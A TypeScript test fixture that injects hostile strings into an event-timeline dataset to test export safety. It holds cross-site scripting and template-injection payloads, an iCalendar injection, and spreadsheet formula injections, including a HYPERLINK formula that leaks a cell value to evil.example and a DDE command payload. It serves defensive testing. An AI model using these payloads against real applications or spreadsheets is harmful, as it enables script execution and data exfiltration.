import { readFileSync } from 'node:fs';

/**
 * Hostile text for the export round trips (Node only): markup, script URLs, template syntax,
 * bidi and zero-width characters, lone surrogates, an over-long string, and spreadsheet formulas
 * (which the CSV must neutralise). The markup payloads are among those e2e/security.spec.ts uses.
 */
const HOSTILE_PAYLOADS = [
  '<script>window.__pwned = 1</script>',
  '<img src=x onerror="window.__pwned=2">',
  '"><script>window.__pwned=5</script>',
  "'; window.__pwned=6; '",
  'javascript:window.__pwned=8',
  '{{constructor.constructor("window.__pwned=11")()}}',
  '${window.__pwned=12}',
  '\u202eevil\u202c bidi override',
  'zero\u200bwidth\u200djoiner\ufeff',
  'lone surrogate \ud800 and \udfff',
  'quotes " and "" and, commas; semicolons\nand\r\nnew lines',
  'BEGIN:VEVENT\r\nSUMMARY:injected\r\nEND:VEVENT',
  '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '=1+1\nsecond line',
  '\u0009tab then text',
  'x'.repeat(20_000),
] as const;

/**
 * The shipped dataset plus one event per payload, in every text field of that event (ids
 * `hostile-0`, `hostile-1`, … in the payloads' order). e2e/security.spec.ts passes its own, longer
 * list of markup payloads.
 */
export function hostileDatasetJson(
  payloads: readonly string[] = HOSTILE_PAYLOADS,
): Record<string, unknown> {
  const base = JSON.parse(
    readFileSync(new URL('../../../public/data/kz-eu.json', import.meta.url), 'utf8'),
  ) as Record<string, unknown> & { events: unknown[] };
  const text = (value: string) => ({ kk: value, en: value, ru: value });
  const events = payloads.map((payload, index) => ({
    id: `hostile-${index}`,
    date: index % 3 === 0 ? `20${10 + index}` : `20${10 + index}-0${1 + (index % 9)}-1${index % 9}`,
    type: 'other',
    parties: ['kz', 'eu'],
    track: 'diplomacy',
    place: text(payload),
    title: text(payload.slice(0, 5000)),
    summary: text(payload),
    note: text(payload),
    people: [{ name: text(payload.slice(0, 200)), role: text(payload.slice(0, 200)) }],
    sources: [
      {
        url: 'https://example.org/?q=%3Cscript%3E',
        publisher: payload.slice(0, 500),
        title: payload.slice(0, 500),
        lang: 'en',
      },
    ],
    related: [index === 0 ? 'hostile-1' : 'hostile-0', 'epca-signed'],
  }));
  return { ...base, events: [...base.events, ...events] };
}
